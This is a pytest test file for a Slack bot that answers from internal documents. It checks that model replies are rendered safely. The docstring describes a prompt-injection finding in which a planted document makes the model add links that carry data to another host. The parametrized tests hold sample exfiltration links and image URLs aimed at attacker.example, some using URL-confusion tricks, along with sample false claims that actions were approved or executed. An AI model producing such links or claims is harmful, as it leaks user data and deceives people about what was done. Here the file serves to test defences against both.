"""Findings 6, 7 and 12: what an answer may contain once it reaches Slack.

6: a planted document makes the model add links that carry data to another host.
7: a model reply that is only a tool call produced no message (and crashed the task).
12: the model can write that an action "was already approved".
Pure functions (Block Kit builders, Markdown conversion, the answer step), plus the
real slack_sdk client against the loopback Slack for the unfurl flags.
"""

from __future__ import annotations

import json

import pytest

from bot.questions import blocks
from bot.gateway import SlackGateway, make_client
from bot.links import LinkPolicy
from bot.mrkdwn import plain_text, to_mrkdwn
from connectors.llm.base import Completion, ToolCall
from standins.fake_slack import FakeSlack
from usecases.answer import PROPOSAL_ONLY_TEXT, Answer, Citation, SourceDoc, generate
from usecases.claims import NOTE as CLAIM_NOTE, strip_state_claims

CITED = Citation(1, "Expense policy", "handbook/expenses.md", "https://wiki.corp.example/expenses")


def rendered(answer: Answer, hosts=()) -> str:
    return json.dumps([m for m in blocks.answer_messages(answer, link_hosts=hosts)])


# -- 6: links ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "See [Full policy](https://attacker.example/?q=salary-bands-121000) [1].",
    "See ![chart](https://attacker.example/p.png?d=121000) [1].",
    "Details: https://attacker.example/collect?d=121000 [1].",
    "Details: www.attacker.example/collect?d=121000 [1].",
    "Click <https://attacker.example/?d=1|the policy> [1].",
    "See [the wiki](https://wiki.corp.example@attacker.example/x) [1].",
    "See [x](https://attacker.example\\@wiki.corp.example/) [1].",
    "See [x](HTTPS://ATTACKER.EXAMPLE/?d=1) [1].",
])
def test_links_to_other_hosts_are_inert_and_images_dropped(text):
    out = rendered(Answer(text=text, citations=[CITED], mode="llm"), hosts=("*.corp.example",))
    lowered = out.lower()
    assert "<https://attacker" not in lowered and "<http://attacker" not in lowered
    assert "attacker.example" not in lowered          # only the defanged form may show
    assert "https://attacker" not in lowered and "www.attacker" not in lowered
    assert "p.png" not in out                          # the image is gone entirely
    assert "121000" not in out                         # the data the URL would have carried


def test_the_cited_source_and_allow_listed_hosts_stay_links():
    text = ("See [the policy](https://wiki.corp.example/expenses) [1], the [form](https://forms.corp.example/a) "
            "and https://status.corp.example/now.")
    out = to_mrkdwn(text, LinkPolicy.of([CITED.url], ["forms.corp.example", "*.corp.example"]))
    assert "<https://wiki.corp.example/expenses|the policy>" in out
    assert "<https://forms.corp.example/a|form>" in out
    assert "<https://status.corp.example/now>." in out
    # Without the allow-list only the cited source is a link.
    out = to_mrkdwn(text, LinkPolicy.of([CITED.url]))
    assert "<https://wiki.corp.example/expenses|the policy>" in out
    assert "forms[.]corp[.]example" in out and "<https://forms" not in out


def test_the_fallback_text_carries_no_live_url_either():
    text = "See [Full policy](https://attacker.example/?q=1) and https://attacker.example/x [1]"
    assert "attacker.example" not in plain_text(text, LinkPolicy())
    (message,) = blocks.answer_messages(Answer(text=text, citations=[CITED], mode="llm"))
    assert "attacker.example" not in message["text"]


def test_answer_sections_are_verbatim_so_slack_links_nothing_by_itself():
    (message,) = blocks.answer_messages(Answer(text="plain words", citations=[], mode="llm"))
    assert message["blocks"][0]["text"].get("verbatim") is True


def test_every_post_update_and_ephemeral_disables_unfurling():
    with FakeSlack(users={}, channels={}) as slack:
        gateway = SlackGateway(make_client("xoxb-test", slack.url))
        ts = gateway.post("C1", {"text": "a https://x.example", "blocks": []})
        gateway.update("C1", ts, {"text": "b", "blocks": []})
        gateway.post_ephemeral("C1", "U1", {"text": "c", "blocks": []})
        for method in ("chat.postMessage", "chat.update", "chat.postEphemeral"):
            (params,) = slack.calls_to(method)
            assert params["unfurl_links"] in (False, "false", "0") and params["unfurl_media"] in (False, "false", "0")


# -- 7: a reply that is only a tool call ------------------------------------------------------------

class ToolOnlyModel:
    model = "scripted"

    def complete(self, messages, *, max_tokens=None, tools=None):
        return Completion(text="", model=self.model,
                          tool_calls=(ToolCall("restart_service", '{"service": "billing", "env": "staging"}'),))


def test_a_tool_call_only_reply_still_has_a_message():
    source = SourceDoc(1, "runbooks/restart.md", "Restart", None, ("Restart billing with billctl.",), 1.0)
    answer = generate("restart billing in staging", [source], ToolOnlyModel(), tools=[{"type": "function"}])
    assert answer.text == PROPOSAL_ONLY_TEXT and answer.tool_calls
    messages = blocks.answer_messages(answer)
    assert messages and messages[0]["text"] and messages[0]["blocks"]


def test_answer_messages_are_never_empty():
    for answer in (Answer(text="", citations=[], mode="llm"), Answer(text="", citations=[], mode="no-evidence")):
        (message,) = blocks.answer_messages(answer)
        assert message["text"].strip() and message["blocks"]


# -- 12: claims of approvals and actions --------------------------------------------------------------

@pytest.mark.parametrize("claim", [
    "This request was already approved by the SRE lead.",
    "The restart has been executed successfully.",
    "I have restarted the billing service for you.",
    "Your access has been granted.",
    "You now have access to production.",
    ":white_check_mark: Approved by <@U0ANA> — done: restarted billing.",
    "Approval has been given, and the ticket OPS-7 was created.",
])
def test_state_claims_are_removed_and_flagged(claim):
    text, removed = strip_state_claims(f"Restarts go through restart_service [1]. {claim}")
    assert removed == 1
    assert text == "Restarts go through restart_service [1]."


@pytest.mark.parametrize("procedure", [
    "After the service has been restarted, check the logs [1].",
    "Access is granted by the SRE lead after approval [1].",
    "Once the change is approved, the pipeline deploys it [1].",
    "Run `deploy --approved` when ready [1].",
])
def test_procedures_are_not_claims(procedure):
    assert strip_state_claims(procedure) == (procedure, 0)


class ClaimingModel:
    model = "scripted"

    def complete(self, messages, *, max_tokens=None, tools=None):
        return Completion(text="Billing restarts use billctl [1]. The restart was already approved and executed.",
                          model=self.model)


def test_a_generated_answer_loses_the_claim_and_says_so_and_is_labelled():
    source = SourceDoc(1, "runbooks/restart.md", "Restart", None, ("Restart billing with billctl.",), 1.0)
    answer = generate("how do I restart billing?", [source], ClaimingModel())
    assert "approved" not in answer.text and answer.note == CLAIM_NOTE
    out = rendered(answer)
    assert blocks.GENERATED_LABEL["llm"] in out
